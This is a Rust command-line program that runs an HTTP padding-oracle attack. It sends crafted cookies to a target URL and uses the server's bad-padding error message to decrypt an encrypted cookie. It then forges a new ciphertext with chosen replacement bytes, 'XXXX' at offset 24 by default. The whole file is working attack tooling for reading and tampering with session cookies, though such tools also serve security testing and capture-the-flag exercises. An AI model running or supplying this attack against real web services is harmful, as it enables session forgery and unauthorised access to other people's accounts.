// Decrypt a cookie through an HTTP padding oracle, then forge a modified one.
//
//     padding_oracle <url> <cipher-hex> [offset replacement]
//
// Block size and retry policy come from PADDING_ORACLE_BLOCK_SIZE,
// PADDING_ORACLE_MAX_RETRIES and PADDING_ORACLE_RETRY_WAIT_SECS. The cookie
// name and the error message that signals bad padding come from
// PADDING_ORACLE_COOKIE and PADDING_ORACLE_INVALID_MARKER.
use padding_oracle::{
    http::{DEFAULT_COOKIE_NAME, DEFAULT_INVALID_MARKER},
    Alphabet, AttackConfig, HttpOracle, PaddingOracle,
};

use std::{error::Error, process::ExitCode};

const DEFAULT_OFFSET: usize = 24;
const DEFAULT_REPLACEMENT: &str = "XXXX";

fn main() -> ExitCode {
    env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info")).init();

    let args: Vec<String> = std::env::args().skip(1).collect();
    if !(2..=4).contains(&args.len()) {
        eprintln!("usage: padding_oracle <url> <cipher-hex> [offset replacement]");
        return ExitCode::FAILURE;
    }
    match run(&args) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            log::error!("{e}");
            ExitCode::FAILURE
        }
    }
}

fn run(args: &[String]) -> Result<(), Box<dyn Error>> {
    let (url, cipher) = (&args[0], &args[1]);
    let offset = match args.get(2) {
        Some(offset) => offset.parse()?,
        None => DEFAULT_OFFSET,
    };
    let replacement = args
        .get(3)
        .map(String::as_str)
        .unwrap_or(DEFAULT_REPLACEMENT);

    let cookie = env_or("PADDING_ORACLE_COOKIE", DEFAULT_COOKIE_NAME);
    let marker = env_or("PADDING_ORACLE_INVALID_MARKER", DEFAULT_INVALID_MARKER);
    let config = AttackConfig::from_env()?;
    let oracle = HttpOracle::new(url.as_str(), cookie, marker)?;
    let attack = PaddingOracle::with_config(oracle, &config)?;

    let alphabet = Alphabet::json();
    let (plain, padding_length) = attack.decrypt(cipher, &alphabet)?;
    println!("Plaintext: {}", String::from_utf8_lossy(&plain));
    println!("Padding: {padding_length}");

    let end = offset + replacement.len();
    if end > plain.len() {
        return Err(format!("replacement ends at {end}, past the plaintext ({})", plain.len()).into());
    }
    let mut plain_new = plain.clone();
    plain_new[offset..end].copy_from_slice(replacement.as_bytes());
    let cipher_new = attack.craft(cipher, &plain, &plain_new, &alphabet)?;
    println!("Modified: {cipher_new}");
    Ok(())
}

fn env_or(name: &str, default: &str) -> String {
    std::env::var(name).unwrap_or_else(|_| default.to_string())
}
